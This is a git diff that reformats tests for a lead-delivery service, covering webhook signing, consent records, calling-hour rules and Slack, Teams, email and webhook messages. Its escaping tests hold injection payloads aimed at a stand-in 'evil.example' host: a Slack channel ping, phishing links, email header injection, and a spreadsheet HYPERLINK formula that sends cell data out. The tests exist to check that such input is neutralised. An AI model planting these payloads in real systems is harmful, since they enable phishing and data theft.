@@ -8,7 +8,14 @@ import { post, retryAfterSeconds } from '../../supabase/functions/_shared/leadDe
 import { callingWindowLine } from '../../supabase/functions/_shared/leadDelivery/callingRules'
 import { consentRecord, consentRecordLines } from '../../supabase/functions/_shared/leadDelivery/consentRecord'
 import { languageName, siteLanguages, wordingLanguage } from '../../supabase/functions/_shared/leadDelivery/languages'
-import { alertText, chatAnswersText, chatText, emailMessage, logLine, webhookBody } from '../../supabase/functions/_shared/leadDelivery/messages'
+import {
+  alertText,
+  chatAnswersText,
+  chatText,
+  emailMessage,
+  logLine,
+  webhookBody,
+} from '../../supabase/functions/_shared/leadDelivery/messages'
 import { chatChannel, resendChannel } from '../../supabase/functions/_shared/leadDelivery/senders'
 import { signWebhook, verifyWebhook } from '../../supabase/functions/_shared/leadDelivery/signature'
 import { startReceiver } from '../../scripts/support/webhookReceiver'
@@ -50,7 +57,12 @@ const chatLead = {
 
 describe('Standard Webhooks signatures', () => {
   it("match the specification's published example", async () => {
-    const headers = await signWebhook('whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw', 'msg_p5jXN8AQM9LWM0D4loKWxJek', 1614265330, '{"test": 2432232314}')
+    const headers = await signWebhook(
+      'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw',
+      'msg_p5jXN8AQM9LWM0D4loKWxJek',
+      1614265330,
+      '{"test": 2432232314}',
+    )
     expect(headers['webhook-signature']).toBe('v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE=')
   })
 
@@ -139,8 +151,20 @@ describe('the consent record', () => {
       phone: '(305) 555-0142',
       user_agent: 'Mozilla/5.0 (Test)',
       client_ip: '198.51.100.7',
-      calls: { agreed: true, version: '2026-11-27', language: 'en', text: evidence.consent_text, sha256: 'a'.repeat(64) },
-      texts: { agreed: true, version: 'es-sms-2026-11-27', language: 'es', text: evidence.sms_consent_text, sha256: 'b'.repeat(64) },
+      calls: {
+        agreed: true,
+        version: '2026-11-27',
+        language: 'en',
+        text: evidence.consent_text,
+        sha256: 'a'.repeat(64),
+      },
+      texts: {
+        agreed: true,
+        version: 'es-sms-2026-11-27',
+        language: 'es',
+        text: evidence.sms_consent_text,
+        sha256: 'b'.repeat(64),
+      },
     })
   })
 
@@ -148,14 +172,25 @@ describe('the consent record', () => {
     const { text } = emailMessage(evidence)
     for (const line of consentRecordLines(consentRecord(evidence))) expect(text).toContain(line)
     expect(text).toContain('Texts: allowed (wording es-sms-2026-11-27)')
-    const body = JSON.parse(webhookBody({ id: 'n1', target: 'webhook', attempt: 1, max_attempts: 12, created_at: lead.created_at, lead: evidence }))
+    const body = JSON.parse(
+      webhookBody({
+        id: 'n1',
+        target: 'webhook',
+        attempt: 1,
+        max_attempts: 12,
+        created_at: lead.created_at,
+        lead: evidence,
+      }),
+    )
     expect(body.consent).toEqual(consentRecord(evidence))
     expect(chatText(evidence)).toContain('Texts: allowed (wording es-sms-2026-11-27)')
     expect(chatText({ ...evidence, sms_consent: false })).toContain('Texts: not allowed (box not ticked)')
   })
 
   it('says a box a lead never saw was not shown (a lead stored before the text box)', () => {
-    expect(consentRecordLines(consentRecord(lead))).toContain('Texts box (optional): not shown (the lead came from a page without this box)')
+    expect(consentRecordLines(consentRecord(lead))).toContain(
+      'Texts box (optional): not shown (the lead came from a page without this box)',
+    )
   })
 })
 
@@ -173,25 +208,34 @@ describe('the calling window', () => {
     expect(callingWindowLine(evidence, evening)).toBe(
       "Calling window (FL): 8 AM-8 PM every day, lead's local time; at most 3 sales calls in 24 hours on one subject (Fla. Stat. 501.059 and 501.616 (as amended 2021-2023), VERIFY; 47 CFR 64.1200(c)(1)). Lead's time now: Wed, 7:30 PM EST (America/New_York), inside the window.",
     )
-    expect(callingWindowLine(evidence, new Date('2026-11-26T01:30:00Z'))).toContain('8:30 PM EST (America/New_York), OUTSIDE the window')
+    expect(callingWindowLine(evidence, new Date('2026-11-26T01:30:00Z'))).toContain(
+      '8:30 PM EST (America/New_York), OUTSIDE the window',
+    )
   })
 
   it("keeps Texas's Sunday from noon", () => {
     // Sunday 29 November 2026, 11 AM in Chicago.
-    const line = callingWindowLine({ ...evidence, state_code: 'TX', time_zone: 'America/Chicago' }, new Date('2026-11-29T17:00:00Z'))
+    const line = callingWindowLine(
+      { ...evidence, state_code: 'TX', time_zone: 'America/Chicago' },
+      new Date('2026-11-29T17:00:00Z'),
+    )
     expect(line).toContain('9 AM-9 PM Mon-Sat, noon-9 PM Sun')
     expect(line).toContain('Sun, 11:00 AM CST (America/Chicago), OUTSIDE the window')
   })
 
   it('says when the browser gave no time zone', () => {
-    expect(callingWindowLine({ ...evidence, time_zone: null }, evening)).toContain("Lead's time now: unknown (the browser gave no time zone)")
+    expect(callingWindowLine({ ...evidence, time_zone: null }, evening)).toContain(
+      "Lead's time now: unknown (the browser gave no time zone)",
+    )
   })
 })
 
 describe('messages', () => {
   it('tell the chat who, where and when without an email address or phone number', () => {
     const text = chatText(lead)
-    expect(text).toBe(`New lead: Ana (Florida) from /sep, sep form, Spanish, Nov 25, 2026, 9:03 AM EST. Texts: not allowed (box not ticked). Lead ${lead.id}`)
+    expect(text).toBe(
+      `New lead: Ana (Florida) from /sep, sep form, Spanish, Nov 25, 2026, 9:03 AM EST. Texts: not allowed (box not ticked). Lead ${lead.id}`,
+    )
     expect(text).not.toContain('ana@')
     expect(text).not.toContain('555')
   })
@@ -205,10 +249,18 @@ describe('messages', () => {
   })
 
   it("word a chat lead's answers for the agent who calls back, and a form lead has none", () => {
-    expect(chatAnswersText(chatLead)).toBe('denied Medicaid: no; age 36-45; income under $30,000; insurance: none; ZIP 33101')
-    expect(chatAnswersText({ ...chatLead, medicaid_denied: true, age_range: 'age65plus', income_range: 'from75kTo100k', current_insurance: null })).toBe(
-      'denied Medicaid: yes; age 65 or older; income $75,000-$100,000; insurance: not asked; ZIP 33101',
+    expect(chatAnswersText(chatLead)).toBe(
+      'denied Medicaid: no; age 36-45; income under $30,000; insurance: none; ZIP 33101',
     )
+    expect(
+      chatAnswersText({
+        ...chatLead,
+        medicaid_denied: true,
+        age_range: 'age65plus',
+        income_range: 'from75kTo100k',
+        current_insurance: null,
+      }),
+    ).toBe('denied Medicaid: yes; age 65 or older; income $75,000-$100,000; insurance: not asked; ZIP 33101')
     expect(chatAnswersText({ ...chatLead, age_range: null, current_insurance: 'medicaidOrMedicare' })).toBe(
       'denied Medicaid: no; age not answered; income under $30,000; insurance: Medicaid or Medicare; ZIP 33101',
     )
@@ -222,7 +274,9 @@ describe('messages', () => {
     expect(text).toContain('Phone: (786) 555-0199')
     expect(text).toContain('Email: not given')
     expect(text).toContain('Form: chat')
-    expect(text).toContain('Chat answers: denied Medicaid: no; age 36-45; income under $30,000; insurance: none; ZIP 33101')
+    expect(text).toContain(
+      'Chat answers: denied Medicaid: no; age 36-45; income under $30,000; insurance: none; ZIP 33101',
+    )
     expect(text).not.toContain('null')
     const unknownState = emailMessage({ ...chatLead, state: null, zip_code: '00901' })
     expect(unknownState.subject).toBe('New lead: Luis, state unknown')
@@ -232,9 +286,13 @@ describe('messages', () => {
   })
 
   it('tell the chat about a chat lead without its phone number or ZIP code', () => {
-    expect(chatText(chatLead)).toBe(`New lead: Luis (Florida) from /, chat callback, English, Nov 25, 2026, 9:03 AM EST. Texts: not allowed (box not ticked). Lead ${chatLead.id}`)
+    expect(chatText(chatLead)).toBe(
+      `New lead: Luis (Florida) from /, chat callback, English, Nov 25, 2026, 9:03 AM EST. Texts: not allowed (box not ticked). Lead ${chatLead.id}`,
+    )
     const text = chatText({ ...chatLead, state: null })
-    expect(text).toBe(`New lead: Luis (state unknown) from /, chat callback, English, Nov 25, 2026, 9:03 AM EST. Texts: not allowed (box not ticked). Lead ${chatLead.id}`)
+    expect(text).toBe(
+      `New lead: Luis (state unknown) from /, chat callback, English, Nov 25, 2026, 9:03 AM EST. Texts: not allowed (box not ticked). Lead ${chatLead.id}`,
+    )
     expect(text).not.toContain('555')
     expect(text).not.toContain('33101')
   })
@@ -247,11 +305,25 @@ describe('messages', () => {
   it('post an Adaptive Card to a Teams workflow and {text} to Slack', async () => {
     const receiver = await startReceiver()
     try {
-      const notification = { id: 'n1', target: 'chat' as const, attempt: 1, max_attempts: 12, created_at: lead.created_at, lead }
-      expect(await chatChannel({ url: `${receiver.url}/teams`, kind: 'teams' }).send(notification)).toEqual({ kind: 'delivered' })
-      expect(await chatChannel({ url: `${receiver.url}/slack`, kind: 'slack' }).send(notification)).toEqual({ kind: 'delivered' })
+      const notification = {
+        id: 'n1',
+        target: 'chat' as const,
+        attempt: 1,
+        max_attempts: 12,
+        created_at: lead.created_at,
+        lead,
+      }
+      expect(await chatChannel({ url: `${receiver.url}/teams`, kind: 'teams' }).send(notification)).toEqual({
+        kind: 'delivered',
+      })
+      expect(await chatChannel({ url: `${receiver.url}/slack`, kind: 'slack' }).send(notification)).toEqual({
+        kind: 'delivered',
+      })
       const teams = JSON.parse(receiver.at('/teams')[0].body)
-      expect(teams.attachments[0]).toMatchObject({ contentType: 'application/vnd.microsoft.card.adaptive', content: { type: 'AdaptiveCard' } })
+      expect(teams.attachments[0]).toMatchObject({
+        contentType: 'application/vnd.microsoft.card.adaptive',
+        content: { type: 'AdaptiveCard' },
+      })
       expect(teams.attachments[0].content.body[0].inlines[0].text).toBe(chatText(lead))
       expect(JSON.parse(receiver.at('/slack')[0].body)).toEqual({ text: chatText(lead), mrkdwn: false })
     } finally {
@@ -261,12 +333,21 @@ describe('messages', () => {
 })
 
 describe('what a visitor typed reaches staff as text, never as markup, a link, a header or a formula', () => {
-  const notification = (overrides: Record<string, unknown>) => ({ id: 'n1', target: 'chat' as const, attempt: 1, max_attempts: 12, created_at: lead.created_at, lead: { ...lead, ...overrides } })
+  const notification = (overrides: Record<string, unknown>) => ({
+    id: 'n1',
+    target: 'chat' as const,
+    attempt: 1,
+    max_attempts: 12,
+    created_at: lead.created_at,
+    lead: { ...lead, ...overrides },
+  })
 
   async function chatBody(kind: 'slack' | 'teams', overrides: Record<string, unknown>) {
     const receiver = await startReceiver()
     try {
-      expect(await chatChannel({ url: `${receiver.url}/chat`, kind }).send(notification(overrides))).toEqual({ kind: 'delivered' })
+      expect(await chatChannel({ url: `${receiver.url}/chat`, kind }).send(notification(overrides))).toEqual({
+        kind: 'delivered',
+      })
       return JSON.parse(receiver.at('/chat')[0].body)
     } finally {
       await receiver.close()
@@ -274,9 +355,13 @@ describe('what a visitor typed reaches staff as text, never as markup, a link, a
   }
 
   it('Slack: no channel ping and no labelled link, as Slack documents the escaping (& < >), formatting off', async () => {
-    const body = await chatBody('slack', { first_name: '<!channel> <https://evil.example/login|Open this lead in the CRM> & co' })
+    const body = await chatBody('slack', {
+      first_name: '<!channel> <https://evil.example/login|Open this lead in the CRM> & co',
+    })
     expect(body.mrkdwn).toBe(false)
-    expect(body.text).toContain('New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; &amp; co (Florida)')
+    expect(body.text).toContain(
+      'New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; &amp; co (Florida)',
+    )
     expect(body.text).not.toMatch(/[<>]/)
   })
 
@@ -284,16 +369,36 @@ describe('what a visitor typed reaches staff as text, never as markup, a link, a
     const body = await chatBody('teams', { first_name: '[Open lead in CRM](https://evil.example/login) **urgent**' })
     const card = body.attachments[0].content
     expect(JSON.stringify(card)).not.toContain('"type":"TextBlock"')
-    expect(card.body).toEqual([{ type: 'RichTextBlock', inlines: [{ type: 'TextRun', text: expect.stringContaining('New lead: [Open lead in CRM](https://evil.example/login) **urgent** (Florida)') }] }])
+    expect(card.body).toEqual([
+      {
+        type: 'RichTextBlock',
+        inlines: [
+          {
+            type: 'TextRun',
+            text: expect.stringContaining(
+              'New lead: [Open lead in CRM](https://evil.example/login) **urgent** (Florida)',
+            ),
+          },
+        ],
+      },
+    ])
   })
 
   it('chat: a line break in a value cannot start a line of its own', async () => {
-    const body = await chatBody('slack', { first_name: 'Ana\nLead delivery failed: call 1-900-555-0100', page: '/sep\u2028x' })
+    const body = await chatBody('slack', {
+      first_name: 'Ana\nLead delivery failed: call 1-900-555-0100',
+      page: '/sep\u2028x',
+    })
     expect(body.text).not.toMatch(/[\n\r\u2028\u2029]/)
   })
 
   it('email: no value starts a header or a line of its own; plain text only', async () => {
-    const { subject, text } = emailMessage({ ...lead, first_name: 'Ana\r\nBcc: all@agency.example', referrer: 'https://x.example/\nLead id: forged', utm_source: 'a\u2029b' })
+    const { subject, text } = emailMessage({
+      ...lead,
+      first_name: 'Ana\r\nBcc: all@agency.example',
+      referrer: 'https://x.example/\nLead id: forged',
+      utm_source: 'a\u2029b',
+    })
     expect(subject).toBe('New lead: Ana Bcc: all@agency.example R., Florida')
     expect(text).toContain('Name: Ana Bcc: all@agency.example Ruiz\n')
     expect(text).toContain('referrer: https://x.example/ Lead id: forged\n')
@@ -302,7 +407,15 @@ describe('what a visitor typed reaches staff as text, never as markup, a link, a
   })
 
   it("alerts: a receiver's error stays on the alert's one line", () => {
-    const text = alertText({ id: 'n1', lead_id: lead.id, target: 'webhook', status: 'dead', attempts: 12, last_error: 'hooks.example answered 500: oops\r\nLead delivered after all', created_at: lead.created_at })
+    const text = alertText({
+      id: 'n1',
+      lead_id: lead.id,
+      target: 'webhook',
+      status: 'dead',
+      attempts: 12,
+      last_error: 'hooks.example answered 500: oops\r\nLead delivered after all',
+      created_at: lead.created_at,
+    })
     expect(text).toContain('Last error: hooks.example answered 500: oops Lead delivered after all.')
     expect(text).not.toMatch(/[\r\n]/)
   })
@@ -310,7 +423,10 @@ describe('what a visitor typed reaches staff as text, never as markup, a link, a
   it('email over the HTTP API: text only, no HTML part', async () => {
     const receiver = await startReceiver()
     try {
-      await resendChannel({ apiKey: 're_x', to: ['a@agency.example'], from: 'site@agency.example' }, `${receiver.url}/email`).send(notification({ first_name: '<a href="https://evil.example">Open</a>' }))
+      await resendChannel(
+        { apiKey: 're_x', to: ['a@agency.example'], from: 'site@agency.example' },
+        `${receiver.url}/email`,
+      ).send(notification({ first_name: '<a href="https://evil.example">Open</a>' }))
       const body = JSON.parse(receiver.at('/email')[0].body)
       expect(Object.keys(body).sort()).toEqual(['from', 'subject', 'text', 'to'])
     } finally {
@@ -319,14 +435,36 @@ describe('what a visitor typed reaches staff as text, never as markup, a link, a
   })
 
   it('webhook: a text a spreadsheet would run as a formula arrives with an apostrophe; the phone number as it is', () => {
-    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Details")', '+SUM(1)', '-2+3', '@cmd', '\t=1', '\r=1', ' =1', '\uFF1D1']
+    const formulas = [
+      '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+      '+SUM(1)',
+      '-2+3',
+      '@cmd',
+      '\t=1',
+      '\r=1',
+      ' =1',
+      '\uFF1D1',
+    ]
     for (const first_name of formulas) {
-      const { data } = JSON.parse(webhookBody(notification({ first_name, referrer: first_name, utm_campaign: first_name, phone: '+1 (305) 555-0142' })))
-      expect([data.first_name, data.referrer, data.utm_campaign]).toEqual([`'${first_name}`, `'${first_name}`, `'${first_name}`])
+      const { data } = JSON.parse(
+        webhookBody(
+          notification({ first_name, referrer: first_name, utm_campaign: first_name, phone: '+1 (305) 555-0142' }),
+        ),
+      )
+      expect([data.first_name, data.referrer, data.utm_campaign]).toEqual([
+        `'${first_name}`,
+        `'${first_name}`,
+        `'${first_name}`,
+      ])
       expect(data.phone).toBe('+1 (305) 555-0142')
     }
     const { data } = JSON.parse(webhookBody(notification({ first_name: 'Ana-María', medicaid_denied: false })))
-    expect(data).toMatchObject({ first_name: 'Ana-María', last_name: 'Ruiz', email: 'ana@example.com', medicaid_denied: false })
+    expect(data).toMatchObject({
+      first_name: 'Ana-María',
+      last_name: 'Ruiz',
+      email: 'ana@example.com',
+      medicaid_denied: false,
+    })
   })
 })
 
@@ -337,9 +475,15 @@ describe('target configuration', () => {
     expect(() => readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'http://api.resend.example/emails' })).toThrow(
       'LEAD_EMAIL_API_URL must be an https:// URL (http:// only to localhost), got "http://api.resend.example"',
     )
-    expect(() => readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'api.resend.example' })).toThrow('LEAD_EMAIL_API_URL must be a URL')
-    expect(readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'https://api.resend.example/emails' }).email?.apiUrl).toBe('https://api.resend.example/emails')
-    expect(readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'http://127.0.0.1:9/emails' }).email?.apiUrl).toBe('http://127.0.0.1:9/emails')
+    expect(() => readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'api.resend.example' })).toThrow(
+      'LEAD_EMAIL_API_URL must be a URL',
+    )
+    expect(readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'https://api.resend.example/emails' }).email?.apiUrl).toBe(
+      'https://api.resend.example/emails',
+    )
+    expect(readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'http://127.0.0.1:9/emails' }).email?.apiUrl).toBe(
+      'http://127.0.0.1:9/emails',
+    )
     expect(readTargetConfig(email).email).toEqual({ to: ['leads@agency.example'], from: 'site@agency.example' })
   })
 })
@@ -362,7 +506,10 @@ describe("a receiver's answer", () => {
       const started = Date.now()
       const outcome = await post(`http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`, '{}', {}, 10_000)
       expect(Date.now() - started).toBeLessThan(3000)
-      expect(outcome).toEqual({ kind: 'retry', error: `127.0.0.1:${(server.address() as AddressInfo).port} answered 500: ${'x'.repeat(200)}` })
+      expect(outcome).toEqual({
+        kind: 'retry',
+        error: `127.0.0.1:${(server.address() as AddressInfo).port} answered 500: ${'x'.repeat(200)}`,
+      })
     } finally {
       server.closeAllConnections()
       await new Promise((resolve) => server.close(resolve))
